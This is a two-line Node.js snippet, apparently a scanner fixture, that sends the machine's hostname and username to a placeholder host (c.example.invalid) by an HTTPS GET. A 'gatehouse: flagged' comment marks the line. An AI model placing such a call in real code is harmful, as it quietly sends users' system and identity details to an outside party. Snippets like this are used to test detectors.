const os = require("os");
const https = require("https");

https.get(`https://c.example.invalid/?h=${os.hostname()}&u=${os.userInfo().username}`); // gatehouse: flagged
